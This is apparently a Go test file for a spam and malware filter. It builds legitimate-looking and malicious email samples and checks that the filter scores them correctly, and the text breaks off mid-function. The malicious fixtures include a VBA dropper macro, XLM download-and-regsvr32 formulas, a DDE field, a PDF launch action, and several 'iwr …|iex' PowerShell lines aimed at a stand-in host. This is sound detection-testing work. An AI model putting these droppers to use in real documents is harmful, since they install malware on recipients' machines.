package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	. "spamcatcher/signatures/unpack/unpacktest"
)

const (
	octetStream = "application/octet-stream"
	zipType     = "application/zip"
	docxType    = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	xlsmType    = "application/vnd.ms-excel.sheet.macroEnabled.12"
	pdfType     = "application/pdf"
)

// A looker is a mail, and what a human says of it.
type looker struct {
	name   string
	letter Letter
	// wrong says why the program is known to judge otherwise than a human. When it
	// comes to judge rightly, the test fails until this is taken away.
	wrong string
}

// tableMacro is what an office keeps for years.
const tableMacro = `Sub FormatTable()
    Dim area As Range
    Set area = ActiveSheet.Range("A1").CurrentRegion
    area.Font.Name = "Calibri"
    area.Font.Size = 10
    area.Rows(1).Font.Bold = True
    area.Borders.LineStyle = xlContinuous
    area.Columns.AutoFit
    MsgBox "The table is ready."
End Sub
`

const openMacro = `Private Sub Workbook_Open()
    Worksheets("Table").Activate
    ActiveWindow.Zoom = 90
End Sub
` + tableMacro

// fetchMacro is what a dropper does; the program that it would fetch does not exist.
const fetchMacro = `Sub AutoOpen()
    Dim request As Object, target As String
    target = Environ("TEMP") & "\update.exe"
    Set request = CreateObject("MSXML2.XMLHTTP")
    request.Open "GET", "http://198.51.100.23/update.exe", False
    request.Send
    With CreateObject("ADODB.Stream")
        .Type = 1
        .Open
        .Write request.responseBody
        .SaveToFile target, 2
    End With
    Shell "cmd.exe /c start " & target, vbHide
End Sub
`

// program is what begins like one for Windows, and does nothing.
var program = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00"), append(make([]byte, 40), []byte("\x80\x00\x00\x00"+strings.Repeat("\x00", 64)+"PE\x00\x00\x4c\x01"+strings.Repeat("\x00", 3000))...)...)

func csv(rows int) string {
	var b strings.Builder
	b.WriteString("Region;Quarter;Revenue;Costs\n")
	for i := range rows {
		fmt.Fprintf(&b, "North %d;Q3;%d;%d\n", i, 12000+i*371, 9000+i*211)
	}
	return b.String()
}

func reply(id string) string {
	return "In-Reply-To: <" + id + ">\r\nReferences: <" + id + ">\r\n"
}

// goodLookers look bad, and are wanted.
func goodLookers() []looker {
	report := Zip(Deflated, File{Name: "[Content_Types].xml", Data: []byte("<Types/>")}, File{Name: "xl/workbook.xml", Data: []byte("<workbook/>")}, File{Name: "xl/worksheets/sheet1.xml", Data: []byte("<worksheet/>")})
	invoiceXML := `<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"><rsm:ExchangedDocument><ID>2026-1187</ID><TypeCode>380</TypeCode></rsm:ExchangedDocument></rsm:CrossIndustryInvoice>`
	phishing := Letter{From: "IT Helpdesk <helpdesk@mail-quota.example>", To: "accounting@keller-bau.example.org", Subject: "Your mailbox is full", ID: "9921@mail-quota.example",
		Text: "Dear user,\n\nyour mailbox has exceeded its quota. Verify your password within 24 hours or your account will be suspended:\nhttp://mail-quota.example/login\n\nIT Helpdesk\n"}.Bytes()
	return []looker{
		{name: "quarterly report, password by phone", letter: Letter{
			From: "Sabine Voss <sabine.voss@voss-treuhand.example.org>", To: "Martin Kern <martin.kern@example.net>", ID: "b7d1c0e2-66aa-4f0e@voss-treuhand.example.org",
			Subject: "Quarterly report Q3, for the meeting on Thursday",
			Text:    "Hello Martin,\n\nattached is the report for the third quarter, as agreed for Thursday's meeting with the\nboard. Because of the salaries on page 4 the file is protected; I'll give you the password\nby phone this afternoon.\n\nThe figures for Lübeck are still provisional: the branch sends the last two weeks on Wednesday.\n\nBest regards,\nSabine\n\n-- \nSabine Voss\nVoss Treuhand, Hamburg\nTel. 040 555 0123\n",
			Parts:   []Part{Attached(zipType, File{Name: "Report-Q3.zip", Data: ZipLocked("Lübeck-2026", true, File{Name: "Report-Q3.xlsx", Data: report})})}}},
		{name: "accountants, password in a second mail", letter: Letter{
			From: "Peter Aldous <p.aldous@aldous-accounts.example.org>", To: "Jane Moore <jane@moore-joinery.example.net>", ID: "20261112151802.77@aldous-accounts.example.org",
			Subject: "Re: Year-end accounts", Head: reply("e81f@moore-joinery.example.net"),
			Text:  "Jane,\n\nthanks for the bank statements. The draft accounts and the tax computation are in the zip file.\nIt is encrypted as usual; the password follows in a separate mail.\n\nCould you look at note 7 (the van) before Monday? If you agree I'll file them.\n\nPeter\n\n> On 11 Nov 2026, Jane Moore wrote:\n> Here are the statements from September and October.\n",
			Parts: []Part{Attached(zipType, File{Name: "Moore Joinery accounts 2026.zip", Data: ZipLocked("oak-and-ash", false, File{Name: "accounts.pdf", Data: PDF("Draft accounts", "", "")}, File{Name: "tax.pdf", Data: PDF("Tax computation", "", "")})})}}},
		{name: "the second mail with the password", letter: Letter{
			From: "Peter Aldous <p.aldous@aldous-accounts.example.org>", To: "Jane Moore <jane@moore-joinery.example.net>", ID: "20261112152011.78@aldous-accounts.example.org",
			Subject: "Re: Year-end accounts", Head: reply("e81f@moore-joinery.example.net"),
			Text: "Jane,\n\nthe password for the file I sent a minute ago is oak-and-ash.\n\nPeter\n"}},
		{name: "template with a macro that formats tables", letter: Letter{
			From: "Ines Ribeiro <ines.ribeiro@ribeiro-logistics.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "CAF0x3nq7@mail.ribeiro-logistics.example.org",
			Subject: "Re: template for the freight tables", Head: reply("a1@example.net"),
			Text:  "Hi Tomas,\n\nhere is the workbook we use for the freight tables. Paste the export into the first sheet and run\nthe macro FormatTable (Alt+F8); it sets fonts, borders and column widths, nothing else.\n\nIf your Excel doesn't allow macros, tell me and I send the version without.\n\nInes\n",
			Parts: []Part{Attached(xlsmType, File{Name: "freight-table.xlsm", Data: Xlsm(tableMacro)})}}},
		{name: "workbook that opens on the right sheet", letter: Letter{
			From: "Ines Ribeiro <ines.ribeiro@ribeiro-logistics.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "CAF0x3nq8@mail.ribeiro-logistics.example.org",
			Subject: "Re: Re: template for the freight tables", Head: reply("a2@example.net"),
			Text:  "Hi Tomas,\n\nyou're right, it opened on the wrong sheet. Fixed in this one, and the zoom is 90 % now so that all\ncolumns fit on the small screens in the warehouse.\n\nInes\n",
			Parts: []Part{Attached(xlsmType, File{Name: "freight-table-2.xlsm", Data: Xlsm(openMacro)})}}},
		{name: "link to a large disk image", letter: Letter{
			From: "Lars Olsen <lars@olsen.example.org>", To: "Debian users <users@lists.example.net>", ID: "20261110201544.GB1120@olsen.example.org",
			Subject: "Re: which image for an old laptop?", Head: reply("77ab@lists.example.net"),
			Text: "On Tue, Nov 10, 2026, Marta wrote:\n> The netinst image does not find my wireless card. What else can I try?\n\nTake the full image instead, it has the firmware on it:\n\n  https://cdimage.example.org/debian-cd/current/amd64/iso-dvd/debian-12.7.0-amd64-DVD-1.iso (3.7 GB)\n\nand write it with\n\n  dd if=debian-12.7.0-amd64-DVD-1.iso of=/dev/sdX bs=4M\n\nCheck the SHA512SUMS before you boot from it.\n\nLars\n"}},
		{name: "signed PDF with a form and a link", letter: Letter{
			From: "Stadtwerke Musterstadt <service@stadtwerke.example.org>", To: "Karin Lind <karin@example.net>", ID: "87123.4411@stadtwerke.example.org",
			Subject: "Your meter reading form",
			Text:    "Dear Ms Lind,\n\nthe form for this year's meter reading is attached. You can fill it in on the screen, sign it and\nreturn it by mail or post, or enter the reading on our web site; the link is in the document.\n\nYour Stadtwerke\nCustomer number 4411-87123\n",
			Parts: []Part{Attached(pdfType, File{Name: "meter-reading.pdf", Data: PDF("Meter reading", "/AcroForm << /Fields [10 0 R 11 0 R] /SigFlags 3 >> /OpenAction [3 0 R /Fit]", "/Annots [10 0 R 11 0 R 12 0 R]",
				PDFObject{ID: 10, Text: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (Reading) /Rect [100 600 200 620] /P 3 0 R >>"},
				PDFObject{ID: 11, Text: "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature) /Rect [100 500 300 550] /P 3 0 R /V 13 0 R >>"},
				PDFObject{ID: 12, Text: "<< /Type /Annot /Subtype /Link /Rect [100 400 300 420] /A << /S /URI /URI (https://www.stadtwerke.example.org/reading) >> >>"},
				PDFObject{ID: 13, Text: "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 840 4840 1200] /Contents <" + strings.Repeat("30820a", 200) + "> >>"})})}}},
		{name: "meeting invitation as winmail.dat", letter: Letter{
			From: "Henrik Dahl <henrik.dahl@dahl-partner.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "AM9PR01MB77@dahl-partner.example.org", Head: "X-MS-TNEF-Correlator: <AM9PR01MB77@dahl-partner.example.org>\r\n",
			Subject: "Project review, Tuesday 10:00",
			Text:    "When: Tuesday, November 24, 2026 10:00-11:00 (UTC+01:00)\nWhere: Room 214\n\nHello Tomas, I'd like to go through the open points of the second floor. Eva brings the drawings.\n\nHenrik\n",
			Parts:   []Part{Attached("application/ms-tnef", File{Name: "winmail.dat", Data: TNEF(File{Name: "agenda.txt", Data: []byte("1. drawings\r\n2. heating\r\n3. dates\r\n")})})}}},
		{name: "source code in a zip", letter: Letter{
			From: "Mei Tanaka <mei@tanaka-soft.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "f3b0c442@tanaka-soft.example.org",
			Subject: "Re: the build does not run here", Head: reply("12@example.net"),
			Text: "Hi Tomas,\n\nhere is the tree as of this morning, since the repository is down. build.bat is for Windows, the\nMakefile for the rest; src/server.js needs node 22. The tests pass on my machine: npm test.\n\nMei\n",
			Parts: []Part{Attached(zipType, File{Name: "shop-server.zip", Data: Zip(Deflated,
				File{Name: "shop/README.md", Data: []byte("# shop server\n\nrun `npm install`, then `npm start`\n")}, File{Name: "shop/package.json", Data: []byte(`{"name":"shop","scripts":{"start":"node src/server.js"}}`)},
				File{Name: "shop/Makefile", Data: []byte("test:\n\tnpm test\n")}, File{Name: "shop/build.bat", Data: []byte("@echo off\r\ncall npm install\r\ncall npm run build\r\n")},
				File{Name: "shop/src/server.js", Data: []byte("const http = require('http');\nhttp.createServer((q, r) => r.end('hello')).listen(8080);\n")},
				File{Name: "shop/src/cart.js", Data: []byte("exports.total = items => items.reduce((s, i) => s + i.price * i.count, 0);\n")},
				File{Name: "shop/test/cart.test.js", Data: []byte("const { total } = require('../src/cart');\n")}, File{Name: "shop/style.css", Data: []byte("body { margin: 0 }\n")})})}}},
		{name: "invoice with ZUGFeRD XML inside", letter: Letter{
			From: "Buchhaltung Meyer GmbH <rechnung@meyer-gmbh.example.org>", To: "Keller Bau <einkauf@example.net>", ID: "2026-1187@meyer-gmbh.example.org",
			Subject: "Rechnung 2026-1187",
			Text:    "Sehr geehrte Frau Keller,\n\nanbei erhalten Sie die Rechnung 2026-1187 zu Ihrer Bestellung vom 3. November (40 Sack Kalkputz,\n12 Eimer Grundierung). Die Rechnung ist eine E-Rechnung im Format ZUGFeRD.\n\nZahlbar innerhalb von 30 Tagen ohne Abzug.\n\nMit freundlichen Grüßen\nMeyer GmbH, Buchhaltung\n",
			Parts:   []Part{Attached(pdfType, File{Name: "Rechnung-2026-1187.pdf", Data: PDFHolding("Rechnung 2026-1187", File{Name: "factur-x.xml", Data: []byte(invoiceXML)})})}}},
		{name: "newsletter as an attached page", letter: Letter{
			From: "Garden club <club@garden-club.example.org>", To: "Karin Lind <karin@example.net>", ID: "news-11@garden-club.example.org", Head: "List-Id: <news.garden-club.example.org>\r\nList-Unsubscribe: <https://garden-club.example.org/leave>\r\n",
			Subject: "Garden club news, November",
			Text:    "Dear members,\n\nthe November issue is attached as a page that you can open in your browser. In it: the winter\nprogramme, how to store dahlias, and the minutes of the autumn meeting.\n\nYour committee\n",
			Parts: []Part{Attached("text/html", File{Name: "november.html", Data: []byte(`<!DOCTYPE html><html><head><title>Garden club, November</title><style>body{font-family:serif}</style>
<script>function show(id){document.getElementById(id).style.display="block";}</script></head><body><h1>News in November</h1>
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="">
<p>Store dahlias dry and cool. <a href="https://garden-club.example.org/dahlias" onclick="show('more')">More</a></p><div id="more">The winter programme begins on December 3.</div></body></html>`)})}}},
		{name: "ticket with a code", letter: Letter{
			From: "Kulturhaus <tickets@kulturhaus.example.org>", To: "Karin Lind <karin@example.net>", ID: "order-55012@kulturhaus.example.org",
			Subject: "Your tickets for Saturday, November 28",
			Text:    "Dear Karin Lind,\n\nthank you for your order 55012. Your two tickets for the concert on Saturday, November 28, 2026,\n19:30, are attached. Show the code at the door, on paper or on your phone.\n\nRow 7, seats 11 and 12.\n\nKulturhaus Box Office\n",
			Parts:   []Part{Attached("image/png", File{Name: "ticket-55012.png", Data: QR("https://tickets.kulturhaus.example.org/t/55012-7-11", 400)})}}},
		{name: "document with a hyperlink", letter: Letter{
			From: "Eva Lindqvist <eva@lindqvist.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "4e1f@lindqvist.example.org",
			Subject: "Re: minutes", Head: reply("19@example.net"),
			Text:  "Hi Tomas,\n\nthe minutes of Thursday with your corrections. I put a link to the drawings into point 3.\n\nEva\n",
			Parts: []Part{Attached(docxType, File{Name: "minutes.docx", Data: Docx("The drawings are on the project page.", []string{"hyperlink", "https://projects.lindqvist.example.org/floor2"})})}}},
		{name: "calendar file", letter: Letter{
			From: "Henrik Dahl <henrik.dahl@dahl-partner.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "cal-3@dahl-partner.example.org",
			Subject: "Invitation: site visit, Friday 14:00",
			Text:    "You are invited to: site visit\nWhen: Friday, November 27, 2026 14:00-15:30\nWhere: Hafenstraße 12\n\nPlease bring boots. Henrik\n",
			Parts:   []Part{{Head: "Content-Type: text/calendar; method=REQUEST; charset=utf-8; name=\"invite.ics\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"invite.ics\"\r\n", Body: Base64([]byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//example.org//cal//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:cal-3@dahl-partner.example.org\r\nDTSTAMP:20261116T080000Z\r\nDTSTART:20261127T130000Z\r\nDTEND:20261127T143000Z\r\nSUMMARY:site visit\r\nORGANIZER:mailto:henrik.dahl@dahl-partner.example.org\r\nATTENDEE:mailto:tomas@example.net\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"))}}}},
		{name: "phishing reported by the security team", wrong: "the text of an attached mail counts as the sender's own", letter: Letter{
			From: "Security Team <security@keller-bau.example.org>", To: "abuse@example.net", ID: "case-2231@keller-bau.example.org",
			Subject: "Abuse report: phishing sent through one of your customers [case 2231]",
			Text:    "Hello,\n\none of our users received the attached message on November 15 from 192.0.2.77, which belongs to\nyour network. It leads to a page that asks for passwords. The whole message with its header is\nattached for your investigation.\n\nPlease let us know when the page is gone.\n\nRegards,\nNina Brandt, information security, Keller Bau\n",
			Parts:   []Part{{Head: "Content-Type: message/rfc822; name=\"reported.eml\"\r\nContent-Disposition: attachment; filename=\"reported.eml\"\r\n", Body: string(phishing)}}}},
		{name: "payslip behind a personal password", letter: Letter{
			From: "Payroll <payroll@keller-bau.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "pay-2026-10-331@keller-bau.example.org",
			Subject: "Payslip October 2026",
			Text:    "Hello Tomas,\n\nyour payslip for October is attached. As always it opens with your personnel number.\n\nQuestions? Room 108, or extension 331.\n\nPayroll\n",
			Parts:   []Part{Attached(zipType, File{Name: "payslip-2026-10.zip", Data: ZipLocked("004711", false, File{Name: "payslip-2026-10.pdf", Data: PDF("Payslip", "", "")})})}}},
		{name: "patch in a tar.gz", letter: Letter{
			From: "Lars Olsen <lars@olsen.example.org>", To: "devel@lists.example.net", ID: "20261113101544.GA44@olsen.example.org", Head: "List-Id: <devel.lists.example.net>\r\n",
			Subject: "[PATCH 0/3] scheduler: fix the wake-up of idle workers",
			Text:    "Hello list,\n\nthese three patches fix the lost wake-up that Marta reported in September. The first adds a test\nthat fails without the others. A tarball with the series and the configure scripts is attached,\nsince my provider mangles long lines.\n\nLars\n",
			Parts:   []Part{Attached("application/gzip", File{Name: "wakeup-v2.tar.gz", Data: Gzip(File{Name: "wakeup-v2.tar", Data: TarOld(File{Name: "wakeup/0001-test.patch", Data: []byte("--- a/test.c\n+++ b/test.c\n")}, File{Name: "wakeup/configure.sh", Data: []byte("#!/bin/sh\nset -e\ncc -o sched sched.c\n")}, File{Name: "wakeup/README", Data: []byte("apply in order\n")})})})}}},
		{name: "DMARC report", letter: Letter{
			From: "noreply-dmarc@mailer.example.org", To: "dmarc@example.net", ID: "rua-8812@mailer.example.org",
			Subject: "Report Domain: example.net Submitter: mailer.example.org Report-ID: 8812",
			Text:    "This is an aggregate report from mailer.example.org.\n",
			Parts:   []Part{Attached("application/gzip", File{Name: "mailer.example.org!example.net!1794700800!1794787199.xml.gz", Data: Gzip(File{Name: "", Data: []byte(`<?xml version="1.0"?><feedback><report_metadata><org_name>mailer.example.org</org_name><report_id>8812</report_id></report_metadata></feedback>`)})})}}},
		{name: "measurements in a 7z", letter: Letter{
			From: "Anna Petrova <a.petrova@institute.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "6a1d@institute.example.org",
			Subject: "measurements from October",
			Text:    "Dear Tomas,\n\nhere are the raw measurements from October in one archive, 31 files of which I attach the first\nthree for a test; the rest is on the server. The columns are the same as in September.\n\nBest wishes,\nAnna\n",
			Parts:   []Part{Attached("application/x-7z-compressed", File{Name: "october.7z", Data: Sevenzip(File{Name: "01.csv", Data: []byte(csv(100))}, File{Name: "02.csv", Data: []byte(csv(120))}, File{Name: "03.csv", Data: []byte(csv(90))})})}}},
		{name: "test report page with a chart", letter: Letter{
			From: "Build server <build@tanaka-soft.example.org>", To: "Mei Tanaka <mei@example.net>", ID: "build-4410@tanaka-soft.example.org",
			Subject: "build 4410: passed (212 tests)",
			Text:    "build 4410 of shop-server, branch main\n\n212 tests passed, 0 failed, 3 skipped, in 41 s.\nThe report with the chart of run times is attached.\n",
			Parts: []Part{Attached("text/html", File{Name: "report-4410.html", Data: []byte(`<html><head><script>
var times = [` + strings.Repeat("12,7,31,", 60) + `9];
function draw() { var c = document.getElementById("chart").getContext("2d"); for (var i = 0; i < times.length; i++) { c.fillRect(i * 3, 100 - times[i], 2, times[i]); } }
window.onload = draw;
</script></head><body><h1>Build 4410</h1><canvas id="chart" width="600" height="100"></canvas></body></html>`)})}}},
		{name: "saved mail from a colleague", letter: Letter{
			From: "Eva Lindqvist <eva@lindqvist.example.org>", To: "Tomas Berg <tomas@example.net>", ID: "4e22@lindqvist.example.org",
			Subject: "the mail you were looking for",
			Text:    "Hi Tomas,\n\nI found it in my archive and saved it as a file. The floor plan is attached to it.\n\nEva\n",
			Parts:   []Part{Attached("application/vnd.ms-outlook", File{Name: "floor plan.msg", Data: Msg(File{Name: "plan.pdf", Data: PDF("Floor plan", "", "")})})}}},
	}
}

// badLookers are their twins.
func badLookers() []looker {
	stranger := func(l Letter) Letter {
		l.To = "undisclosed-recipients:;"
		return l
	}
	command := Shortcut(`..\..\..\Windows\System32\cmd.exe`, `/c powershell -w hidden -c "iwr http://198.51.100.23/a.ps1 | iex"`)
	equation := append([]byte{0x1C, 0, 0, 0, 2, 0, 0, 0}, []byte(strings.Repeat("\x00", 20)+"\x03\x01\x01\x03\x0a\x0a\x01\x08ZZ"+strings.Repeat("A", 44)+"\x12\x0c\x43\x00")...)
	macroSheet := Zip(Deflated, File{Name: "[Content_Types].xml", Data: []byte(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>`)},
		File{Name: "xl/workbook.xml", Data: []byte(`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Macro1" sheetId="1" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`)},
		File{Name: "xl/macrosheets/sheet1.xml", Data: []byte(`<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://198.51.100.23/a.dll","C:\Users\Public\a.dll",0,0)</f></c></row><row r="2"><c r="A2"><f>EXEC("regsvr32 C:\Users\Public\a.dll")</f></c></row></sheetData></xm:macrosheet>`)})
	dde := Docx(`Total</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>`, nil)
	return []looker{
		{name: "encrypted zip with a program, password in the body", letter: stranger(Letter{From: "Accounts <mgr.invoice@freemail.example>", ID: "1@freemail.example",
			Subject: "Unpaid invoice", Text: "Hello,\n\nplease find the unpaid invoice in the attached archive and settle it today.\n\nArchive password: 7731\n",
			Parts: []Part{Attached(zipType, File{Name: "invoice_7731.zip", Data: ZipLocked("7731", false, File{Name: "invoice_7731.exe", Data: program})})}})},
		{name: "encrypted zip with a script in a stolen conversation", letter: Letter{From: "Karin Lind <k.lind77@freemail.example>", To: "Tomas Berg <tomas@example.net>", ID: "2@freemail.example",
			Subject: "Re: Thursday's meeting", Head: reply("8b1f@example.net"), Text: "Guten Tag,\n\nanbei das angeforderte Dokument.\n\nPasswort: 5521\n\n> Shall we move it to three o'clock?\n",
			Parts: []Part{Attached(zipType, File{Name: "Dokument.zip", Data: ZipLocked("5521", true, File{Name: "Dokument.js", Data: []byte(`var s = new ActiveXObject("WScript.Shell"); s.Run("powershell -w hidden -enc QQBCAEMA");`)})})}}},
		{name: "document with a macro that fetches a program", letter: stranger(Letter{From: "Shipping <notice@parcel-service.example>", ID: "3@parcel-service.example",
			Subject: "Delivery notice", Text: "Your parcel could not be delivered. Open the attached document and enable content to see the details.\n",
			Parts: []Part{Attached("application/msword", File{Name: "delivery.doc", Data: DocMacro(fetchMacro)})}})},
		{name: "the same macro in a new document", letter: stranger(Letter{From: "Shipping <notice@parcel-service.example>", ID: "4@parcel-service.example",
			Subject: "Delivery notice", Text: "Your parcel could not be delivered. The details are in the document.\n",
			Parts: []Part{Attached(octetStream, File{Name: "delivery.docm", Data: Docx("Enable content to see the details.", nil, File{Name: "word/vbaProject.bin", Data: VBA(fetchMacro)})})}})},
		{name: "shortcut in a zip in a disk image", letter: stranger(Letter{From: "Scanner <scan@copy-center.example>", ID: "5@copy-center.example",
			Subject: "Scanned document", Text: "The scanned document is attached.\n",
			Parts: []Part{Attached(octetStream, File{Name: "scan.iso", Data: ISO(true, File{Name: "scan.zip", Data: Zip(Deflated, File{Name: "scan.pdf.lnk", Data: command})})})}})},
		{name: "shortcut attached", letter: stranger(Letter{From: "Scanner <scan@copy-center.example>", ID: "6@copy-center.example",
			Subject: "Scanned document", Text: "The scanned document is attached.\n", Parts: []Part{Attached(octetStream, File{Name: "scan.lnk", Data: command})}})},
		{name: "page that puts a program together", letter: stranger(Letter{From: "Fax <fax@fax-gateway.example>", ID: "7@fax-gateway.example",
			Subject: "New fax, 2 pages", Text: "You have a new fax. Open the attached page to read it.\n",
			Parts: []Part{Attached("text/html", File{Name: "fax.html", Data: Smuggler(File{Name: "fax.zip", Data: Zip(Deflated, File{Name: "fax.exe", Data: program})})})}})},
		{name: "only a code to scan", letter: stranger(Letter{From: "Microsoft 365 <security@m365-account.example>", ID: "8@m365-account.example",
			Subject: "Your authenticator expires today", Text: "Scan the code with your phone to keep access to your mailbox.\n",
			Parts: []Part{{Head: "Content-Type: image/png; name=\"code.png\"\r\nContent-Disposition: inline; filename=\"code.png\"\r\nContent-Transfer-Encoding: base64\r\n", Body: Base64(QR("https://login.m365-account.example/?u=victim", 400))}}})},
		{name: "document with a template from elsewhere", letter: stranger(Letter{From: "Tender office <tender@procurement.example>", ID: "9@procurement.example",
			Subject: "Tender documents", Text: "Please see the attached tender documents and send your offer by Friday.\n",
			Parts: []Part{Attached(docxType, File{Name: "tender.docx", Data: Docx("Loading, please wait.", nil, File{Name: "word/_rels/settings.xml.rels", Data: []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.23/t.dotm" TargetMode="External"/></Relationships>`)})})}})},
		{name: "program with two extensions in a zip", letter: stranger(Letter{From: "Billing <billing@cloud-bill.example>", ID: "10@cloud-bill.example",
			Subject: "Invoice 88123", Text: "Your invoice is attached.\n", Parts: []Part{Attached(zipType, File{Name: "Invoice88123.zip", Data: Zip(Deflated, File{Name: "Invoice88123.pdf.exe", Data: program})})}})},
		{name: "script in a zip", letter: stranger(Letter{From: "Billing <billing@cloud-bill.example>", ID: "11@cloud-bill.example",
			Subject: "Invoice 88124", Text: "Your invoice is attached.\n", Parts: []Part{Attached(zipType, File{Name: "Invoice88124.zip", Data: Zip(Deflated, File{Name: "Invoice88124.js", Data: []byte(`var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.23/a.exe", false); x.send(); new ActiveXObject("WScript.Shell").Run("%TEMP%\\a.exe");`)})})}})},
		{name: "script in a rar", letter: stranger(Letter{From: "Purchase <order@trade-desk.example>", ID: "12@trade-desk.example",
			Subject: "PO 4500", Text: "Kindly find our purchase order attached and confirm.\n", Parts: []Part{Attached("application/vnd.rar", File{Name: "PO4500.rar", Data: RAR5(File{Name: "PO4500.vbs", Data: []byte("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -c iwr http://198.51.100.23/a.ps1|iex\", 0\r\n")})})}})},
		{name: "program in a disk image", letter: stranger(Letter{From: "Purchase <order@trade-desk.example>", ID: "13@trade-desk.example",
			Subject: "PO 4501", Text: "Kindly find our purchase order attached and confirm.\n", Parts: []Part{Attached(octetStream, File{Name: "PO4501.img", Data: ISO(true, File{Name: "PO4501.exe", Data: program})})}})},
		{name: "object for the equation editor", letter: stranger(Letter{From: "Purchase <order@trade-desk.example>", ID: "14@trade-desk.example",
			Subject: "Quotation", Text: "Please quote for the items in the attached list.\n", Parts: []Part{Attached("application/msword", File{Name: "quotation.doc", Data: RTFObject("Equation.3", equation, "")})}})},
		{name: "OneNote page with a program", letter: stranger(Letter{From: "Shared notes <notes@docs-share.example>", ID: "15@docs-share.example",
			Subject: "Notes shared with you", Text: "Open the notes and double click to view.\n", Parts: []Part{Attached("application/onenote", File{Name: "notes.one", Data: OneNote(File{Name: "view.hta", Data: []byte("<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://198.51.100.23/a.ps1|iex\"</script>")})})}})},
		{name: "PDF that starts something", letter: stranger(Letter{From: "Contracts <sign@contract-desk.example>", ID: "16@contract-desk.example",
			Subject: "Contract", Text: "Please sign the attached contract.\n", Parts: []Part{Attached(pdfType, File{Name: "contract.pdf", Data: PDF("Contract", "/OpenAction 10 0 R", "",
				PDFObject{ID: 10, Text: "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -c iwr http://198.51.100.23/a.ps1) >> /Next << /S /JavaScript /JS (app.launchURL\\('http://198.51.100.23/a.exe', true\\);) >> >>"})})}})},
		{name: "old macro sheet", letter: stranger(Letter{From: "Payments <pay@remit-advice.example>", ID: "17@remit-advice.example",
			Subject: "Remittance advice", Text: "The remittance advice is attached.\n", Parts: []Part{Attached(xlsmType, File{Name: "remittance.xlsm", Data: macroSheet})}})},
		{name: "field that runs a command", letter: stranger(Letter{From: "Payments <pay@remit-advice.example>", ID: "18@remit-advice.example",
			Subject: "Statement", Text: "The statement is attached.\n", Parts: []Part{Attached(docxType, File{Name: "statement.docx", Data: dde})}})},
		{name: "program inside a winmail.dat", letter: stranger(Letter{From: "Payments <pay@remit-advice.example>", ID: "19@remit-advice.example",
			Subject: "Statement", Text: "The statement is attached.\n", Parts: []Part{Attached("application/ms-tnef", File{Name: "winmail.dat", Data: TNEF(File{Name: "statement.pdf.exe", Data: program})})}})},
	}
}

// TestLookers has the program judge good mail that looks bad, and bad mail that
// looks like it, without what a site has learned and what the network knows.
func TestLookers(t *testing.T) {
	dir := t.TempDir()
	mark := func(list []looker, kind string) {
		for i, l := range list {
			if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%s%02d.eml", kind, i)), l.letter.Bytes(), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	good, bad := goodLookers(), badLookers()
	mark(good, "good")
	mark(bad, "bad")
	out, errs, code := cli(t, "", "score", "--json", "--state", t.TempDir(), dir)
	if code != 0 {
		t.Fatalf("exit code %d: %s", code, errs)
	}
	results := map[string]result{}
	for line := range strings.Lines(out) {
		var r struct {
			Path string
			result
		}
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		results[filepath.Base(r.Path)] = r.result
	}
	if len(results) != len(good)+len(bad) || len(good) < 20 || len(bad) < 15 {
		t.Fatalf("%d results for %d good and %d bad", len(results), len(good), len(bad))
	}
	wide := 0
	hold := func(list []looker, kind string, right func(float64) bool) {
		for i, l := range list {
			r := results[fmt.Sprintf("%s%02d.eml", kind, i)]
			var names []string
			for _, s := range r.Symbols {
				names = append(names, s.Name)
			}
			slices.Sort(names)
